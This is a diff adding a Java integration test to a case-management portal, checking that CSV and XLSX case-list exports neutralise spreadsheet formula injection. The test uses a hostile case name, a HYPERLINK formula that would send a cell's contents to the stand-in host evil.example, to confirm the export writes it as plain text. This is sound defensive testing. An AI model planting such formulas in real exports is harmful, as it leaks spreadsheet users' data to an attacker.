@@ -534,4 +534,28 @@ class RolePagesIT {
         em.createNamedQuery(ActivityRecord.FIND_BY_USER_AND_KIND, ActivityRecord.class).setParameter("userId", owner.userId()).setParameter("kind", ActivityRecord.Kind.LIST_EXPORTED).getResultList().stream()
             .anyMatch(a -> "CASE_LIST XLSX".equals(a.getDetail()) && a.getRows() == owned && a.getAction() == AccessAction.EXPORT));
   }
+
+  @Test
+  void aNameThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() throws Exception {
+    fixture();
+    // An organisation of its own, so that no other test's list changes.
+    Viewer admin = viewer("admin");
+    long ngo = administration.createOrganisation(admin, "RP Formula NGO", OrganisationType.NGO, "Subotica");
+    administration.createUser(admin, new AdministrationService.NewUserForm("rp.formula", "Tester rp.formula", "rp.formula@example.org", ngo, PortalRole.NGO_COORDINATOR, PASSWORD));
+    String formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")";
+    cases.open(viewer("rp.formula"), new CaseFileService.NewCaseForm(formula, "+381 Formula", LocalDate.of(1990, 1, 1), null, "RS", null, null, Set.of(), null, null));
+
+    PortalSession session = signedIn("rp.formula", PASSWORD);
+    session.get("app/cases.xhtml");
+    String csv = new String(session.submit("casesForm", "casesForm:exportCsv", Map.of()).body(), StandardCharsets.UTF_8);
+    assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Klik\"\") +381 Formula\""), "the name is written as text: " + csv);
+    assertFalse(csv.contains("\"=HYPERLINK"), "no cell starts with the formula: " + csv);
+
+    session.get("app/cases.xhtml");
+    try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(session.submit("casesForm", "casesForm:exportXlsx", Map.of()).body()))) {
+      org.apache.poi.ss.usermodel.Cell name = workbook.getSheetAt(0).getRow(1).getCell(1);
+      assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, name.getCellType(), "a text cell, which a spreadsheet never evaluates");
+      assertEquals(formula + " +381 Formula", name.getStringCellValue(), "shown as the name it is");
+    }
+  }
 }
